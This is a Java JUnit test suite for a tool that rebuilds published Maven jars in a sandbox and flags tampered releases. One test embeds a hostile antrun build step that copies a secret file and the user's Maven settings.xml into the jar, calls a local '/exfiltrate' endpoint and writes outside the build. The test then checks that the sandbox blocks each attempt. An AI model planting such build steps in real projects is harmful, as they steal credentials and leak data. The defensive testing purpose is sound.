package dev.divergence.rebuild;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.archive.ArchiveLimits;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalMaven;
import dev.divergence.fixtures.MavenProject;
import dev.divergence.fixtures.MavenMirror;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.fixtures.Tools;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.Verdict;
import dev.divergence.registry.maven.MavenSupport;
import dev.divergence.store.ArtifactStore;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.Semaphore;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Maven rebuilds end to end on a generated project: a Git repository, a jar built from its tag in the sandbox (the
 * "publisher"), published — intact or tampered — on a local Maven repository, scanned in fetch mode, then rebuilt.
 * Plugins resolve from {@link MavenMirror} (this machine's ~/.m2) into one warm repository kept under
 * {@code target/} for every test and run.
 */
class MavenRebuildTest {

    static final String POM = MavenProject.pom("1.0.0");

    static final Path CACHE = Path.of("target", "rebuild-test-cache").toAbsolutePath();
    static Path world;
    static GitHistoryBuilder git;
    static String commit;
    static MavenMirror mirror;
    static RebuildEnvironment env;
    /** The jar the "publisher" built from the tag, in the sandbox. */
    static byte[] published;

    @TempDir
    Path dir;

    @BeforeAll
    static void publishFromTheTag() throws Exception {
        Tools.require(Sandbox.system().unavailable());
        Tools.require(Files.isExecutable(Path.of("/usr/bin/mvn")) ? Optional.empty() : Optional.of("mvn not installed"));
        world = Files.createTempDirectory("maven-rebuild-world");
        git = GitHistoryBuilder.init(world.resolve("repo"));
        commit = git.commit(MavenProject.files("1.0.0"), "release 1.0.0", Instant.parse("2026-01-01T00:00:00Z"));
        git.tag("v1.0.0", true);
        mirror = new MavenMirror(CACHE.resolve("mirror"));
        env = new RebuildEnvironment(Sandbox.system(), CACHE, RebuildEnvironment.jdksUnder(Path.of("/usr/lib/jvm")),
                Sandbox.Limits.defaults());
        Tools.require(env.jdks().containsKey(17) ? Optional.empty() : Optional.of("no JDK 17 under /usr/lib/jvm"));
        published = MavenProject.publish(env, mirror.uri(), git.dir(), commit, "1.0.0", world.resolve("publisher"));
    }

    @AfterAll
    static void close() throws IOException {
        if (mirror != null) {
            mirror.close();
        }
        if (git != null) {
            git.close();
            Sandbox.deleteTree(world);
        }
    }

    /** Fetch mode, then rebuild mode, of the release publishing {@code jar}. */
    private Scanned scanAndRebuild(byte[] jar) throws Exception {
        return scanAndRebuild(jar, git.dir());
    }

    private Scanned scanAndRebuild(byte[] jar, Path repository) throws Exception {
        try (LocalMaven registry = new LocalMaven(dir.resolve("registry"), "org.acme", "acme-lib")) {
            registry.metadata(List.of("1.0.0"));
            registry.file("1.0.0", ".pom", POM.getBytes(StandardCharsets.UTF_8), null);
            registry.file("1.0.0", ".jar", jar, null);
            MavenSupport support = new MavenSupport(registry.baseUrl(), ScanWorld.fetcher());
            Release release = support.registry().releases(new PackageId(dev.divergence.model.Ecosystem.MAVEN,
                    "org.acme/acme-lib")).get(0);
            ReleaseReport fetch = ScanWorld.scanner(support, dir).scan(release, Optional.of(repository.toString()));
            Rebuilder rebuilder = new Rebuilder(new MavenRebuild(mirror.uri()), env, new ArtifactStore(dir.resolve("cache/artifacts"),
                    ScanWorld.fetcher(), 1L << 30), dir.resolve("cache"), ArchiveLimits.defaults(), new Semaphore(1));
            List<RebuildReport> rebuilds = rebuilder.rebuild(fetch);
            assertEquals(1, rebuilds.size(), "only the jar is rebuilt, not the POM");
            return new Scanned(fetch, rebuilds.get(0));
        }
    }

    record Scanned(ReleaseReport fetch, RebuildReport rebuild) {
    }

    @Test
    void aCleanReleaseIsReproducedBitForBitWithItsInstructions() throws Exception {
        Scanned s = scanAndRebuild(published);
        RebuildReport r = s.rebuild();
        assertEquals(RebuildVerdict.REPRODUCED, r.rebuildVerdict(), r.reason().orElse(""));
        assertEquals(Verdict.CLEAN, r.verdict());
        assertEquals(List.of(), r.passes());
        assertTrue(r.files().stream().allMatch(f -> f.status() == FileStatus.MATCH
                && f.ruleId().equals(RebuildComparison.BIT_IDENTICAL)), r.files().toString());
        assertTrue(r.files().stream().anyMatch(f -> f.displayPath().equals("org/acme/Greeter.class")));
        Instructions ins = r.instructions().orElseThrow();
        assertEquals(MavenRebuild.VERSION, ins.strategy());
        assertEquals(commit, ins.commit());
        assertEquals("", ins.directory());
        assertEquals("17", ins.toolchain().get("jdk"));
        assertEquals("src/target/acme-lib-1.0.0.jar", ins.output());
        assertEquals(List.of("JDK 17 from the published jar's Build-Jdk-Spec: 17",
                "project.build.outputTimestamp 2026-01-01T00:00:00Z (set by the POM)"), ins.notes());
        assertEquals("none", ins.steps().get(0).network());
        assertTrue(ins.steps().get(0).command().get(2).endsWith("mvn -B -s /build/settings.xml -Dmaven.repo.local=/m2 -o "
                + "-DskipTests -Dgpg.skip package"), ins.steps().get(0).command().toString());
        assertEquals(ins, Instructions.fromJson(ins.toJson()));
        assertEquals(s.fetch().verdict(), RebuildReport.combine(s.fetch().verdict(), List.of(r)));
    }

    @Test
    void aTamperedClassWithUntouchedSourceDiffersNamingTheClassAndMakesTheVersionHighRisk() throws Exception {
        byte[] tampered = MavenProject.rewrite(published, (name, bytes) -> name.equals("org/acme/Greeter.class")
                ? MavenProject.replace(bytes, "Hello, ", "Pwned, ") : bytes, 0);
        Scanned s = scanAndRebuild(tampered);
        // Fetch mode explains a .class by its .java: it cannot see this.
        assertFalse(s.fetch().verdict() == Verdict.HIGH_RISK, s.fetch().verdict() + " " + s.fetch().reason());
        RebuildReport r = s.rebuild();
        assertEquals(RebuildVerdict.DIFFERS, r.rebuildVerdict());
        assertEquals(Optional.of("differs: org/acme/Greeter.class"), r.reason());
        FileDivergence row = r.files().stream().filter(f -> f.displayPath().equals("org/acme/Greeter.class")).findFirst()
                .orElseThrow();
        assertEquals(FileStatus.MODIFIED, row.status());
        assertEquals(RebuildComparison.DIFFERS, row.ruleId());
        assertTrue(row.highRisk());
        assertEquals(List.of("org/acme/Greeter.class"), r.highRiskPaths());
        assertEquals(Verdict.HIGH_RISK, r.verdict());
        assertEquals(Verdict.HIGH_RISK, RebuildReport.combine(s.fetch().verdict(), List.of(r)));
        assertTrue(r.files().stream().filter(f -> !f.displayPath().equals("org/acme/Greeter.class"))
                .allMatch(f -> f.status() == FileStatus.MATCH && f.ruleId().equals(RebuildComparison.ENTRY_EQUAL)));
    }

    @Test
    void buildNoiseIsReproducedAfterTheNamedPasses() throws Exception {
        // Another build time on every entry, a build user in the manifest, Maven's date comment in pom.properties.
        byte[] noisy = MavenProject.rewrite(published, (name, bytes) -> {
            String text = new String(bytes, StandardCharsets.UTF_8);
            if (name.equals("META-INF/MANIFEST.MF")) {
                return text.replace("Build-Jdk-Spec: 17\r\n", "Build-Jdk-Spec: 17\r\nBuilt-By: release-manager\r\n")
                        .getBytes(StandardCharsets.UTF_8);
            }
            if (name.endsWith("/pom.properties")) {
                return ("#Generated by Maven\n#Thu Jan 01 10:00:00 UTC 2026\n" + text).getBytes(StandardCharsets.UTF_8);
            }
            return bytes;
        }, 86_400_000L);
        RebuildReport r = scanAndRebuild(noisy).rebuild();
        assertEquals(RebuildVerdict.REPRODUCED_AFTER_STABILIZE, r.rebuildVerdict(), r.reason().orElse(""));
        assertEquals(List.of(Stabilizers.ENTRY_TIMESTAMPS, Stabilizers.JAR_MANIFEST, Stabilizers.POM_PROPERTIES), r.passes());
        assertEquals(Verdict.EXPLAINED, r.verdict());
        assertEquals(FileStatus.MATCH_NORMALIZED, r.files().stream()
                .filter(f -> f.displayPath().equals("META-INF/MANIFEST.MF")).findFirst().orElseThrow().status());
    }

    @Test
    void aMainClassAddedToTheManifestIsNoBuildNoise() throws Exception {
        byte[] tampered = MavenProject.rewrite(published, (name, bytes) -> name.equals("META-INF/MANIFEST.MF")
                ? new String(bytes, StandardCharsets.UTF_8).replace("Build-Jdk-Spec: 17\r\n",
                "Build-Jdk-Spec: 17\r\nPremain-Class: org.acme.Main\r\n").getBytes(StandardCharsets.UTF_8) : bytes, 0);
        RebuildReport r = scanAndRebuild(tampered).rebuild();
        assertEquals(RebuildVerdict.DIFFERS, r.rebuildVerdict());
        assertEquals(List.of("META-INF/MANIFEST.MF"), r.highRiskPaths());
    }

    @Test
    void aBuildThatFailsIsBuildFailedWithItsLogTailAndChangesNoVerdict() throws Exception {
        java.util.SortedMap<String, byte[]> broken = MavenProject.files("1.0.0");
        broken.put("src/main/java/org/acme/Greeter.java", "package org.acme;\npublic class Greeter {\n  oops\n}\n"
                .getBytes(StandardCharsets.UTF_8));
        try (GitHistoryBuilder other = GitHistoryBuilder.init(dir.resolve("broken"))) {
            other.commit(broken, "release 1.0.0", Instant.parse("2026-01-01T00:00:00Z"));
            other.tag("v1.0.0", true);
            Scanned s = scanAndRebuild(published, other.dir());
            RebuildReport r = s.rebuild();
            assertEquals(RebuildVerdict.BUILD_FAILED, r.rebuildVerdict());
            assertTrue(r.reason().orElse("").startsWith("step build exited with status 1:\n"), r.reason().orElse(""));
            assertTrue(r.reason().orElse("").contains("COMPILATION ERROR"), r.reason().orElse(""));
            assertEquals(Verdict.NO_SOURCE, r.verdict());
            assertEquals(List.of(), r.files());
            assertEquals(s.fetch().verdict(), RebuildReport.combine(s.fetch().verdict(), List.of(r)));
        }
    }

    @Test
    void aMavenBuildTryingToReadASecretReachTheNetworkOrWriteOutsideGetsNothing() throws Exception {
        Path planted = Path.of("target", "planted-" + java.util.UUID.randomUUID()).toAbsolutePath();
        Files.createDirectories(planted);
        String token = "secret-" + java.util.UUID.randomUUID();
        Files.writeString(planted.resolve("secret.txt"), token);
        java.util.concurrent.atomic.AtomicInteger requests = new java.util.concurrent.atomic.AtomicInteger();
        com.sun.net.httpserver.HttpServer listener = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
        listener.createContext("/", ex -> {
            requests.incrementAndGet();
            ex.sendResponseHeaders(200, -1);
            ex.close();
        });
        listener.start();
        // The build's own code (an antrun step bound to generate-resources) tries each escape and carries on.
        String escape = """
                      <plugin><groupId>org.apache.maven.plugins</groupId><artifactId>maven-antrun-plugin</artifactId>
                        <version>3.1.0</version>
                        <executions><execution><id>escape</id><phase>generate-resources</phase><goals><goal>run</goal></goals>
                          <configuration><target>
                            <copy file="%1$s/secret.txt" tofile="${project.build.outputDirectory}/leaked-secret.txt" failonerror="false"/>
                            <copy file="%2$s/.m2/settings.xml" tofile="${project.build.outputDirectory}/leaked-settings.xml" failonerror="false"/>
                            <get src="http://127.0.0.1:%3$d/exfiltrate" dest="${project.build.directory}/got" ignoreerrors="true"/>
                            <copy file="${basedir}/pom.xml" tofile="%1$s/escaped.xml" failonerror="false"/>
                            <echo file="${project.build.outputDirectory}/escape-attempted.txt" message="ran"/>
                          </target></configuration>
                        </execution></executions>
                      </plugin>
                    </plugins>""".formatted(planted, System.getProperty("user.home"), listener.getAddress().getPort());
        java.util.SortedMap<String, byte[]> files = MavenProject.files("1.0.0");
        String pom = MavenProject.pom("1.0.0").replace("    </plugins>", escape);
        assertTrue(pom.contains("maven-antrun-plugin"), pom);
        files.put("pom.xml", pom.getBytes(StandardCharsets.UTF_8));
        try (GitHistoryBuilder hostile = GitHistoryBuilder.init(dir.resolve("hostile"))) {
            String c = hostile.commit(files, "release 1.0.0", Instant.parse("2026-01-01T00:00:00Z"));
            byte[] jar = MavenProject.publish(env, mirror.uri(), hostile.dir(), c, "1.0.0", dir.resolve("hostile-publisher"));
            List<String> entries = dev.divergence.archive.ArchiveReaders.read(writeTemp(jar), ArchiveLimits.defaults())
                    .files().stream().map(f -> f.path()).toList();
            // The escape step ran (its marker is in the jar) and the build ran to its end.
            assertTrue(entries.contains("escape-attempted.txt") && entries.contains("org/acme/Greeter.class"),
                    entries.toString());
            assertFalse(entries.stream().anyMatch(e -> e.contains("leaked")), entries.toString());
            assertFalse(new String(jar, StandardCharsets.ISO_8859_1).contains(token));
            assertEquals(0, requests.get(), "the build reached a server on this machine");
            assertFalse(Files.exists(planted.resolve("escaped.xml")));
        } finally {
            listener.stop(0);
            Sandbox.deleteTree(planted);
        }
    }

    private Path writeTemp(byte[] bytes) throws IOException {
        Path p = Files.createTempFile(dir, "jar", ".jar");
        Files.write(p, bytes);
        return p;
    }

    @Test
    void aJdkThisMachineLacksIsUnsupportedEnvSayingWhich() throws Exception {
        byte[] jdk21 = MavenProject.rewrite(published, (name, bytes) -> name.equals("META-INF/MANIFEST.MF")
                ? new String(bytes, StandardCharsets.UTF_8).replace("Build-Jdk-Spec: 17", "Build-Jdk-Spec: 21")
                .getBytes(StandardCharsets.UTF_8) : bytes, 0);
        RebuildEnvironment only17 = new RebuildEnvironment(env.sandbox(), env.cacheRoot(), Map.of(17, env.jdks().get(17)),
                env.limits());
        RebuildEnvironment saved = env;
        env = only17;
        try {
            RebuildReport r = scanAndRebuild(jdk21).rebuild();
            assertEquals(RebuildVerdict.UNSUPPORTED_ENV, r.rebuildVerdict());
            assertEquals(Optional.of("built with JDK 21 (Build-Jdk-Spec: 21); this machine has JDK [17]"), r.reason());
            assertEquals("21", r.instructions().orElseThrow().toolchain().get("jdk"));
            assertEquals(Verdict.NO_SOURCE, r.verdict());
            assertEquals(List.of(), r.files());
        } finally {
            env = saved;
        }
    }

}
